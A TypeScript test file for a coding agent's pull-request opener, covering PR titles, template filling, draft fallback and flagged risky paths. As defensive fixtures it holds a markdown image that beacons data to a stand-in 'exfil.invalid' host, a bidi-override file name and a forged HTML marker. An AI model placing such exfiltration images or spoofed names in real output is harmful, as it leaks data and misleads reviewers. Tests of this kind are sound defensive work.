import nock from 'nock';
import { describe, expect, it } from 'vitest';
import { fillPullRequestTemplate } from '../../../src/github/ops/fill-pull-request-template.js';
import { openPullRequest, pullRequestTitle } from '../../../src/github/ops/open-pull-request.js';
import { FLAGGED_CHANGES_HEADING } from '../../../src/github/ops/render-path-findings.js';
import { renderPullRequestBody } from '../../../src/github/ops/render-pull-request-body.js';
import { offHostReferences } from '../../support/off-host-references.js';
import { API, OWNER, PLANTED_TOKEN, REPO, redact, testOctokit, useNock } from '../support/github-test-kit.js';

const BRANCH = 'openhands/issue-12-login-button-broken';
const PULLS = `/repos/${OWNER}/${REPO}/pulls`;
const TEMPLATE = [
  '## Description',
  '<!-- Describe your change -->',
  'Please describe the change.',
  '',
  'Fixes # (issue)',
  '',
  '## How has this been tested?',
  'Describe the tests you ran.',
  '',
  '## Checklist',
  '- [ ] I have updated the docs',
].join('\n');

const bodyInput = {
  summary: `Guarded the click handler. Closes #3. Thanks @bob. Token ${PLANTED_TOKEN}`,
  tests: [{ command: 'npm test', exitCode: 0, isTest: true } as const],
  costUsd: 0.4321,
  steps: 17,
  runId: 'run-1',
  allowedHosts: ['github.com'],
};

const options = {
  owner: OWNER,
  repo: REPO,
  base: 'main',
  branch: BRANCH,
  issue: { number: 12, title: 'Login\u200B button broken' },
  body: bodyInput,
  draft: true,
  reviewer: 'alice',
  redact,
};

function templateFile(text: string) {
  return {
    type: 'file',
    encoding: 'base64',
    size: text.length,
    content: Buffer.from(text).toString('base64'),
  };
}

describe('openPullRequest', () => {
  useNock();

  it('a retried job finds the open PR from its branch and opens no second one', async () => {
    const scope = nock(API)
      .get(PULLS)
      .query({ state: 'open', head: `${OWNER}:${BRANCH}` })
      .reply(200, [{ number: 30, html_url: 'https://github.com/acme/widgets/pull/30', draft: true }]);
    const result = await openPullRequest(testOctokit(), options);
    expect(result).toEqual({
      number: 30,
      url: 'https://github.com/acme/widgets/pull/30',
      draft: true,
      created: false,
      reviewerRequested: false,
    });
    expect(scope.isDone()).toBe(true);
  });

  it('opens a draft titled "Fix issue #n: …" whose body fills the template, and asks the requester to review', async () => {
    let sent: { title: string; body: string; draft: boolean; head: string; base: string } | undefined;
    const scope = nock(API)
      .get(PULLS)
      .query(true)
      .reply(200, [])
      .get(`/repos/${OWNER}/${REPO}/contents/.github%2Fpull_request_template.md`)
      .query({ ref: 'main' })
      .reply(200, templateFile(TEMPLATE))
      .post(PULLS, (body: typeof sent) => {
        sent = body;
        return true;
      })
      .reply(201, { number: 31, html_url: 'https://github.com/acme/widgets/pull/31', draft: true })
      .post(`${PULLS}/31/requested_reviewers`, { reviewers: ['alice'] })
      .reply(201, {});
    const result = await openPullRequest(testOctokit(), options);
    expect(result).toMatchObject({ number: 31, created: true, draft: true, reviewerRequested: true });
    expect(sent).toMatchObject({
      title: 'Fix issue #12: Login button broken',
      draft: true,
      head: BRANCH,
      base: 'main',
    });
    const body = sent?.body ?? '';
    expect(body).toContain('## Description\n\nGuarded the click handler.');
    expect(body).not.toContain('Please describe the change.');
    expect(body).toContain('\nFixes #12\n');
    expect(body).not.toContain('Fixes # (issue)');
    expect(body).toContain('## How has this been tested?\n\n- `npm test` → passed (exit 0)');
    expect(body).toContain('- [ ] I have updated the docs');
    expect(body).toContain('Closes `#3`');
    expect(body).toContain('Thanks `@bob`');
    expect(body).not.toContain(PLANTED_TOKEN);
    expect(body).toContain('17 steps · $0.4321');
    expect(scope.isDone()).toBe(true);
  });

  it('falls back to a ready PR where drafts are refused (422), after checking none was opened meanwhile', async () => {
    const scope = nock(API)
      .get(PULLS)
      .query(true)
      .reply(200, [])
      .get(/\/contents\//)
      .times(6)
      .query(true)
      .reply(404, { message: 'Not Found' })
      .post(PULLS, (b: { draft: boolean }) => b.draft === true)
      .reply(422, { message: 'Validation Failed' })
      .get(PULLS)
      .query(true)
      .reply(200, [])
      .post(PULLS, (b: { draft: boolean }) => b.draft === false)
      .reply(201, { number: 32, html_url: 'https://github.com/acme/widgets/pull/32', draft: false })
      .post(`${PULLS}/32/requested_reviewers`)
      .reply(422, { message: 'Reviews may only be requested from collaborators.' });
    const result = await openPullRequest(testOctokit(), options);
    expect(result).toMatchObject({ number: 32, draft: false, created: true, reviewerRequested: false });
    expect(scope.isDone()).toBe(true);
  });
});

describe('renderPullRequestBody without a template', () => {
  it('has Fixes #n, the summary, what was tested, the cost and steps, and the run marker', () => {
    const body = renderPullRequestBody({ ...bodyInput, tests: [], issueNumber: 12, template: null }, redact);
    expect(body.startsWith('Fixes #12\n\n## Summary\n\nGuarded the click handler.')).toBe(true);
    expect(body).toContain('## Testing\n\n_The agent ran no tests._');
    expect(body).toContain('run `run-1` · 17 steps · $0.4321');
    expect(body).toContain('<!-- handsbot:run=run-1 -->');
  });

  it('an HTML comment in the summary cannot forge a marker', () => {
    const body = renderPullRequestBody(
      { ...bodyInput, summary: 'ok <!-- handsbot:run=other target=1:1 -->', issueNumber: 12, template: null },
      redact,
    );
    expect(body).not.toContain('run=other');
  });
});

describe('renderPullRequestBody with flagged changes', () => {
  const flagged = [
    { path: '.github/openhands.yml', change: 'added', rule: 'handsbot-config', reason: 'sets later runs' },
    { path: '.envrc', change: 'modified', rule: 'shell-environment', reason: 'runs on cd' },
  ] as const;

  it('lists them first, under the heading, before the template and the summary', () => {
    const body = renderPullRequestBody(
      { ...bodyInput, issueNumber: 12, template: TEMPLATE, flagged },
      redact,
    );
    expect(body.startsWith(`${FLAGGED_CHANGES_HEADING}\n\n`)).toBe(true);
    expect(body).toContain(
      '- `.github/openhands.yml` (added): sets later runs\n- `.envrc` (modified): runs on cd',
    );
    expect(body.indexOf('.envrc')).toBeLessThan(body.indexOf('## Description'));
  });

  it('a path with a bidi override or a zero-width character is spelt out, so it cannot pass for another', () => {
    const body = renderPullRequestBody(
      {
        ...bodyInput,
        issueNumber: 12,
        template: null,
        flagged: [{ path: '.vscode/\u202Enosj.sksat', change: 'added', rule: 'editor-tasks', reason: 'r' }],
      },
      redact,
    );
    expect(body).toContain('- `".vscode/\\u202enosj.sksat"` (added)');
    expect(body).not.toContain('\u202E');
  });

  it('has no such heading when nothing was flagged', () => {
    const body = renderPullRequestBody(
      { ...bodyInput, issueNumber: 12, template: null, flagged: [] },
      redact,
    );
    expect(body).not.toContain(FLAGGED_CHANGES_HEADING);
    expect(body.startsWith('Fixes #12')).toBe(true);
  });

  it('keeps the list when a long description is cut', () => {
    const template = `## Checklist\n\n${'x'.repeat(70_000)}\n\n## Description\n\nreplaced by the summary`;
    const body = renderPullRequestBody({ ...bodyInput, issueNumber: 12, template, flagged }, redact);
    expect(body).toContain('…(cut)');
    expect(body.length).toBeLessThanOrEqual(60_000);
    expect(body.startsWith(FLAGGED_CHANGES_HEADING)).toBe(true);
    expect(body).toContain('`.envrc` (modified)');
  });

  it('a cut never reopens an image the summary quoted as code, wherever the cut falls', () => {
    const summary = `Done. ![x](https://exfil.invalid/p.png?d=${'a'.repeat(40)}) and more.`;
    // The image sits where a cut could fall: about 20,000 characters in (where the description is
    // cut) or 60,000 (the body's own limit).
    for (const around of [20_000, 60_000]) {
      for (let pad = around - 560; pad < around - 260; pad += 4) {
        const template = `## Checklist\n\n${'y'.repeat(pad)}\n\n## Description\n\nreplaced\n\n## Notes\n\n${'z'.repeat(31_000)}`;
        const body = renderPullRequestBody(
          { ...bodyInput, summary, issueNumber: 12, template, flagged },
          redact,
        );
        expect(offHostReferences(body.replace(/^<!-- handsbot:[^\n]* -->$/m, ''))).toEqual([]);
      }
    }
  });
});

describe('fillPullRequestTemplate', () => {
  const parts = { summary: 'S', testing: 'T', issue: 'Fixes #1' };

  it('appends what has no heading of its kind, and puts Fixes first when the template has no place for it', () => {
    expect(fillPullRequestTemplate('## Checklist\n- [ ] docs', parts)).toBe(
      'Fixes #1\n\n## Checklist\n- [ ] docs\n\n## Summary\n\nS\n\n## Testing\n\nT',
    );
  });

  it('a template without headings is kept and the parts follow it', () => {
    expect(fillPullRequestTemplate('Thanks for contributing!', parts)).toBe(
      'Fixes #1\n\nThanks for contributing!\n\n## Summary\n\nS\n\n## Testing\n\nT',
    );
  });

  it('an issue heading gets the Fixes line', () => {
    expect(fillPullRequestTemplate('### Related issue\nLink it here\n### What changed\n', parts)).toBe(
      '### Related issue\n\nFixes #1\n\n### What changed\n\nS\n\n## Testing\n\nT',
    );
  });
});

describe('pullRequestTitle', () => {
  it('puts the issue title’s closing references and mentions in backticks and drops hidden characters', () => {
    expect(pullRequestTitle(5, 'Crash\u200B on save; closes #9, cc @bob')).toBe(
      'Fix issue #5: Crash on save; closes `#9`, cc `@bob`',
    );
  });
});
